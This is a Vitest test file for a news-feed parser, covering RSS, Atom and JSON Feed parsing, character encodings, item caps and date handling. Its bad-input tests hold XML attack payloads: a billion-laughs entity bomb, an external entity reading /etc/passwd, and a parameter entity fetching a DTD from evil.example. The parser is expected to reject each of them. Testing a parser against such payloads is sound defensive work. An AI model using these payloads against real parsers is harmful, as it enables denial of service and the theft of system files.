import { describe, expect, it } from 'vitest';
import { FeedParseError, maxItemsPerFeed, parseFeed, type ParsedFeed } from '../../src/feeds/parse-feed.js';

const now = new Date('2026-11-27T12:00:00Z');
const feedUrl = 'https://news.example.org/feeds/world.xml';

function parse(body: string | Buffer, contentType?: string): ParsedFeed {
  return parseFeed({ body, feedUrl, ...(contentType === undefined ? {} : { contentType }) }, { now });
}

function parseError(body: string | Buffer): FeedParseError {
  try {
    parse(body);
  } catch (error) {
    if (error instanceof FeedParseError) return error;
    throw error;
  }
  throw new Error('expected a FeedParseError');
}

const longText = "Officials said the dam would supply 40 per cent of the region's power by 2030. ".repeat(20);

describe('parseFeed: formats', () => {
  it('reads RSS 2.0 and normalises titles, links, ids, dates, authors and language', () => {
    const feed = parse(`<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>World &amp; More</title><link>https://news.example.org/</link><language>en-gb</language><ttl>60</ttl>
<item><title>Dam &lt;em&gt;opens&lt;/em&gt;   after   &#8216;delays&#8217;</title>
  <link>/world/dam-opens?utm_source=rss&amp;utm_medium=feed&amp;id=7#comments</link>
  <guid isPermaLink="false">7</guid><dc:creator>Ana Lima</dc:creator>
  <pubDate>Tue, 24 Nov 2026 09:30:00 +0100</pubDate>
  <description>&lt;p&gt;Short teaser&lt;/p&gt;</description>
  <content:encoded><![CDATA[<p>${longText}</p><script>track()</script><p>Second <b>paragraph</b>.<br>Same paragraph, new line.</p>]]></content:encoded></item>
</channel></rss>`);
    expect(feed.format).toBe('rss 2.0');
    expect(feed.title).toBe('World & More');
    expect(feed.link).toBe('https://news.example.org/');
    expect(feed.language).toBe('en-GB');
    expect(feed.ttlMinutes).toBe(60);
    const [article] = feed.articles;
    expect(article).toMatchObject({
      id: `${feedUrl}#7`,
      feedUrl,
      url: 'https://news.example.org/world/dam-opens?id=7',
      title: 'Dam opens after \u2018delays\u2019',
      author: 'Ana Lima',
      publishedAt: '2026-11-24T08:30:00.000Z',
      publishedIsGuess: false,
      language: 'en-GB',
      summary: 'Short teaser',
      contentIsPartial: false,
      source: { name: 'World & More', siteUrl: 'https://news.example.org/' },
    });
    expect(article?.content.split('\n\n')).toEqual([
      longText.trim(),
      'Second paragraph.\nSame paragraph, new line.',
    ]);
  });

  it('reads Atom 1.0 with xml:base, xhtml titles and content, published and updated', () => {
    const feed = parse(`<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example.net/posts/" xml:lang="fr">
  <title type="html">Le &lt;i&gt;blog&lt;/i&gt;</title><id>urn:uuid:1</id><updated>2026-11-20T10:00:00Z</updated>
  <link rel="alternate" href="https://blog.example.net/"/><link rel="self" href="https://blog.example.net/atom.xml"/>
  <author><name>Claire</name></author>
  <entry xml:base="2026/">
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Bonjour <b>monde</b></div></title>
    <id>tag:blog.example.net,2026:1</id>
    <link rel="alternate" type="text/html" href="hello.html"/><link rel="replies" href="hello.html#comments"/>
    <published>2026-11-19T08:00:00+01:00</published><updated>2026-11-20T08:00:00+01:00</updated>
    <summary type="text">A &lt;plain&gt; summary</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>${longText}</p><p>Fin.</p></div></content>
  </entry>
</feed>`);
    expect(feed.format).toBe('atom 1.0');
    expect(feed.title).toBe('Le blog');
    expect(feed.language).toBe('fr');
    const [article] = feed.articles;
    expect(article).toMatchObject({
      id: 'tag:blog.example.net,2026:1',
      url: 'https://blog.example.net/posts/2026/hello.html',
      title: 'Bonjour monde',
      author: 'Claire',
      publishedAt: '2026-11-19T07:00:00.000Z',
      updatedAt: '2026-11-20T07:00:00.000Z',
      summary: 'A <plain> summary',
      language: 'fr',
      contentIsPartial: false,
    });
    expect(article?.content.endsWith('\n\nFin.')).toBe(true);
  });

  it('reads RSS 1.0 (RDF) with Dublin Core dates', () => {
    const feed = parse(`<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://science.example.com/"><title>Science</title><link>https://science.example.com/</link><description>d</description></channel>
  <item rdf:about="https://science.example.com/a/1"><title>Cells</title><link>https://science.example.com/a/1</link>
    <description>Teaser about cells</description><dc:date>2026-11-01</dc:date><dc:creator>Kim, J.</dc:creator></item>
</rdf:RDF>`);
    expect(feed.format).toBe('rss 1.0 (rdf)');
    expect(feed.articles[0]).toMatchObject({
      id: 'https://science.example.com/a/1',
      url: 'https://science.example.com/a/1',
      title: 'Cells',
      author: 'Kim, J.',
      publishedAt: '2026-11-01T00:00:00.000Z',
      contentIsPartial: true,
    });
  });

  it('reads Atom 0.3', () => {
    const feed =
      parse(`<?xml version="1.0"?><feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Old</title>
<link rel="alternate" type="text/html" href="http://old.example.org/"/><modified>2004-01-01T00:00:00Z</modified>
<entry><title>Entry</title><link rel="alternate" type="text/html" href="http://old.example.org/1"/><id>tag:old,2004:1</id>
<issued>2004-01-01T00:00:00Z</issued><modified>2004-01-02T00:00:00Z</modified><summary>Hi</summary></entry></feed>`);
    expect(feed.format).toBe('atom 0.3');
    expect(feed.articles[0]).toMatchObject({
      url: 'http://old.example.org/1',
      publishedAt: '2004-01-01T00:00:00.000Z',
      title: 'Entry',
    });
  });

  it('reads JSON Feed 1.1 and 1.0', () => {
    const feed = parse(
      JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        title: 'JSON News',
        home_page_url: 'https://json.example.com/',
        language: 'de',
        authors: [{ name: 'Feed Author' }],
        items: [
          {
            id: '1',
            url: 'https://json.example.com/1',
            title: 'Eins',
            content_html: `<p>${longText}</p>`,
            date_published: '2026-11-26T10:00:00Z',
            summary: 'Kurz',
          },
          {
            id: '2',
            url: 'https://json.example.com/2',
            content_text: 'Nur Text ohne Titel, ein Mikroblog-Eintrag.',
            date_published: '2026-11-26T11:00:00+02:00',
            authors: [{ name: 'Bea' }],
          },
        ],
      }),
    );
    expect(feed.format).toBe('json feed 1.1');
    expect(feed.language).toBe('de');
    expect(feed.articles).toHaveLength(2);
    expect(feed.articles[0]).toMatchObject({
      title: 'Eins',
      author: 'Feed Author',
      summary: 'Kurz',
      contentIsPartial: false,
    });
    expect(feed.articles[1]).toMatchObject({
      title: 'Nur Text ohne Titel, ein Mikroblog-Eintrag.',
      author: 'Bea',
      publishedAt: '2026-11-26T09:00:00.000Z',
    });
    const v1 = parse(
      JSON.stringify({
        version: 'https://jsonfeed.org/version/1',
        title: 'V1',
        items: [{ id: 'x', url: 'https://json.example.com/x', title: 'X', author: { name: 'Old' } }],
      }),
    );
    expect(v1.format).toBe('json feed 1');
    expect(v1.articles[0]?.author).toBe('Old');
  });
});

describe('parseFeed: character encodings', () => {
  const latin1Feed = (declaration: string): Buffer =>
    Buffer.concat([
      Buffer.from(`<?xml version="1.0"${declaration}?><rss version="2.0"><channel><title>`, 'latin1'),
      Buffer.from('Caf\u00e9 cr\u00e8me \u2013 \u20ac5', 'latin1').subarray(0, 0),
      Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x96, 0x20, 0x80, 0x35]), // "Café – €5" in windows-1252
      Buffer.from(
        '</title><item><title>x</title><link>https://e.example/1</link></item></channel></rss>',
        'latin1',
      ),
    ]);

  it('uses the XML declaration', () => {
    const feed = parse(latin1Feed(' encoding="windows-1252"'));
    expect(feed.title).toBe('Caf\u00e9 \u2013 \u20ac5');
    expect(feed.encoding).toBe('windows-1252');
  });

  it('lets the Content-Type charset win over the declaration', () => {
    const feed = parse(latin1Feed(' encoding="utf-8"'), 'application/rss+xml; charset=ISO-8859-1');
    expect(feed.title).toBe('Caf\u00e9 \u2013 \u20ac5');
  });

  it('falls back to windows-1252 for undeclared bytes that are not UTF-8', () => {
    expect(parse(latin1Feed('')).title).toBe('Caf\u00e9 \u2013 \u20ac5');
  });

  it('reads declared UTF-8 that is not UTF-8 as windows-1252', () => {
    const feed = parse(latin1Feed(' encoding="utf-8"'));
    expect(feed.title).toBe('Caf\u00e9 \u2013 \u20ac5');
    expect(feed.encoding).toBe('windows-1252');
    expect(parse(latin1Feed(''), 'application/rss+xml; charset=utf-8').title).toBe(
      'Caf\u00e9 \u2013 \u20ac5',
    );
    // Real UTF-8 with one stray byte stays UTF-8.
    const mostlyUtf8 = Buffer.concat([
      Buffer.from(
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Zürich, Genève, Köln ',
      ),
      Buffer.from([0xe9]),
      Buffer.from('</title></channel></rss>'),
    ]);
    const kept = parse(mostlyUtf8);
    expect(kept.encoding).toBe('utf-8');
    expect(kept.title).toBe('Zürich, Genève, Köln \ufffd');
  });

  it('honours a UTF-8 byte-order mark over a wrong declaration', () => {
    const body = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(
        '<?xml version="1.0" encoding="iso-8859-1"?><rss version="2.0"><channel><title>Zürich ✓</title></channel></rss>',
      ),
    ]);
    expect(parse(body).title).toBe('Zürich ✓');
  });

  it('decodes windows-1251 and GB2312', () => {
    const cyrillic = Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel><title>'),
      Buffer.from([0xcd, 0xee, 0xe2, 0xee, 0xf1, 0xf2, 0xe8]), // Новости
      Buffer.from('</title></channel></rss>'),
    ]);
    expect(parse(cyrillic).title).toBe('Новости');
    const chinese = Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="gb2312"?><rss version="2.0"><channel><title>'),
      Buffer.from([0xd0, 0xc2, 0xce, 0xc5]), // 新闻
      Buffer.from('</title></channel></rss>'),
    ]);
    const feed = parse(chinese);
    expect(feed.title).toBe('新闻');
    expect(feed.encoding).toBe('gbk');
  });
});

describe('parseFeed: bad input', () => {
  it('explains non-feeds', () => {
    expect(parseError('').reason).toBe('empty response');
    expect(parseError('   \n').reason).toBe('empty response');
    expect(
      parseError(
        '<!doctype html><html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body>Hi</body></html>',
      ).reason,
    ).toBe('not a feed: the address returns an HTML page (it links to a feed at /feed.xml)');
    expect(parseError('<note><to>Tove</to></note>').reason).toMatch(/root element is <note>/);
    expect(parseError('{"hello": "world"}').reason).toMatch(/not a feed: JSON/);
    expect(parseError('{"items": [').reason).toMatch(/not valid JSON/);
    expect(parseError('just some text').reason).toMatch(/not a feed/);
  });

  it('refuses billion laughs and external entities quickly', () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]><rss version="2.0"><channel><title>&lol9;</title></channel></rss>`;
    const started = performance.now();
    expect(parseError(laughs).reason).toMatch(/entity-expansion attack/);
    expect(performance.now() - started).toBeLessThan(200);
    expect(
      parseError(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
      ).reason,
    ).toMatch(/external entity/);
    expect(
      parseError(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
      ).reason,
    ).toMatch(/parameter entity/);
  });

  it('substitutes a few short literal entities', () => {
    const feed = parse(
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY company "Acme Corp">]><rss version="2.0"><channel><title>&company; news &amp; views</title></channel></rss>',
    );
    expect(feed.title).toBe('Acme Corp news & views');
  });

  it('refuses pathologically deep nesting', () => {
    const deep = `<rss version="2.0"><channel><title>x</title><item>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</item></channel></rss>`;
    const started = performance.now();
    expect(parseError(deep).reason).toMatch(/nested deeper than 100 levels/);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('tolerates a bare ampersand, undeclared HTML entities and leading junk', () => {
    const feed = parse(
      `\n\n  <?xml version="1.0"?><rss version="2.0"><channel><title>Q&A &nbsp;&copy; 2026</title><item><title>Tom &amp; Jerry&hellip;</title><link>https://e.example/?a=1&b=2</link></item></channel></rss>`,
    );
    expect(feed.title).toBe('Q&A \u00a9 2026');
    expect(feed.articles[0]?.title).toBe('Tom & Jerry\u2026');
    expect(feed.articles[0]?.url).toBe('https://e.example/?a=1&b=2');
  });

  it('reads what it can of truncated XML, or says it is malformed', () => {
    const truncated =
      '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>One</title><link>https://e.example/1</link></item><item><title>Tw';
    let outcome: string;
    try {
      outcome = `ok ${parse(truncated).articles.length}`;
    } catch (error) {
      outcome = (error as FeedParseError).reason;
    }
    expect(outcome).toMatch(/^ok [12]$|malformed/);
  });

  it('handles 10,000 items in bounded time, keeps the first 1,000 and counts the rest', () => {
    const items = Array.from(
      { length: 10_000 },
      (_, i) =>
        `<item><title>Item ${i}</title><link>https://e.example/${i}</link><guid>https://e.example/${i}</guid></item>`,
    ).join('');
    const body = `<rss version="2.0"><channel><title>Big</title>${items}</channel></rss>`;
    const started = performance.now();
    const all = parse(body);
    expect(maxItemsPerFeed).toBe(1_000);
    expect(all.articles).toHaveLength(1_000);
    expect(all.articles[999]?.title).toBe('Item 999');
    expect(all).toMatchObject({ entryCount: 10_000, entriesOverCap: 9_000 });
    const capped = parseFeed({ body, feedUrl }, { now, maxItems: 100 });
    expect(capped.articles).toHaveLength(100);
    expect(capped.entriesOverCap).toBe(9_900);
    const exactlyAtCap = `<rss version="2.0"><channel><title>Big</title>${items.split('</item>').slice(0, 1_000).join('</item>')}</item></channel></rss>`;
    expect(parse(exactlyAtCap)).toMatchObject({ entryCount: 1_000, entriesOverCap: 0 });
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('keeps the first of duplicate GUIDs, and entries with other GUIDs that share a link', () => {
    const feed = parse(`<rss version="2.0"><channel><title>D</title>
      <item><title>First</title><guid>https://e.example/1</guid></item>
      <item><title>Again</title><guid>https://e.example/1</guid></item>
      <item><title>Other guid same link</title><guid>x-2</guid><link>https://e.example/1</link></item>
      <item><title>Third</title><guid>https://e.example/3</guid></item></channel></rss>`);
    expect(feed.articles.map((a) => [a.title, a.url, a.urlIsShared])).toEqual([
      ['First', 'https://e.example/1', true],
      ['Other guid same link', 'https://e.example/1', true],
      ['Third', 'https://e.example/3', undefined],
    ]);
  });

  it('flags missing, 1970 and far-future dates as guesses and clamps slightly-future ones', () => {
    const feed = parse(`<rss version="2.0"><channel><title>Dates</title>
      <item><title>none</title><link>https://e.example/1</link></item>
      <item><title>epoch</title><link>https://e.example/2</link><pubDate>Thu, 01 Jan 1970 00:00:00 GMT</pubDate></item>
      <item><title>future</title><link>https://e.example/3</link><pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item>
      <item><title>soon</title><link>https://e.example/4</link><pubDate>Fri, 27 Nov 2026 14:00:00 GMT</pubDate></item>
      <item><title>garbage</title><link>https://e.example/5</link><pubDate>yesterday-ish</pubDate></item></channel></rss>`);
    const byTitle = Object.fromEntries(feed.articles.map((a) => [a.title, a]));
    for (const title of ['none', 'epoch', 'future', 'garbage']) {
      expect(byTitle[title]).toMatchObject({ publishedAt: now.toISOString(), publishedIsGuess: true });
    }
    expect(byTitle.soon).toMatchObject({ publishedAt: now.toISOString(), publishedIsGuess: false });
  });

  it('does not take the site home page for an entry link, and hashes entries without id or link', () => {
    const feed = parse(`<rss version="2.0"><channel><title>Pod</title><link>https://pod.example/</link>
      <item><title>Episode 1</title><link>https://pod.example/</link><pubDate>Tue, 24 Nov 2026 09:30:00 GMT</pubDate></item>
      <item><title>Episode 2</title><link>https://pod.example/</link><pubDate>Wed, 25 Nov 2026 09:30:00 GMT</pubDate></item></channel></rss>`);
    expect(feed.articles).toHaveLength(2);
    expect(feed.articles[0]?.url).toBeUndefined();
    expect(feed.articles[0]?.id).toMatch(/^urn:sha1:[0-9a-f]{40}$/);
    expect(feed.articles[0]?.id).not.toBe(feed.articles[1]?.id);
    expect(
      parse(
        feed.articles.length > 0
          ? `<rss version="2.0"><channel><title>Pod</title><link>https://pod.example/</link><item><title>Episode 1</title><link>https://pod.example/</link><pubDate>Tue, 24 Nov 2026 09:30:00 GMT</pubDate></item></channel></rss>`
          : '',
      ).articles[0]?.id,
    ).toBe(feed.articles[0]?.id);
  });

  it('marks teasers partial and drops feed furniture', () => {
    const feed = parse(`<rss version="2.0"><channel><title>T</title>
      <item><title>Teaser</title><link>https://e.example/t</link><description>&lt;p&gt;The mayor said the plan would cost more.&lt;/p&gt;&lt;p&gt;Related: Earlier plan scrapped&lt;/p&gt;&lt;p&gt;&lt;a href="https://e.example/t"&gt;Continue reading...&lt;/a&gt;&lt;/p&gt;</description></item></channel></rss>`);
    expect(feed.articles[0]).toMatchObject({
      contentIsPartial: true,
      content: 'The mayor said the plan would cost more.',
    });
  });

  it('drops the footer a feed adds to each item ("This article, … first appeared on …")', () => {
    const feed = parse(`<rss version="2.0"><channel><title>T</title>
      <item><title>Budget</title><link>https://e.example/b</link><description>&lt;p&gt;The council approved the budget on Monday after a long debate.&lt;/p&gt;&lt;p&gt;This article, "Council approves budget" first appeared on Example News.&lt;/p&gt;</description></item>
      <item><title>Port</title><link>https://e.example/p</link><description>&lt;p&gt;The port reopened on Tuesday after the storm had passed.&lt;/p&gt;&lt;p&gt;The post Port reopens appeared first on Example News.&lt;/p&gt;</description></item></channel></rss>`);
    expect(feed.articles.map((article) => article.content)).toEqual([
      'The council approved the budget on Monday after a long debate.',
      'The port reopened on Tuesday after the storm had passed.',
    ]);
  });
});
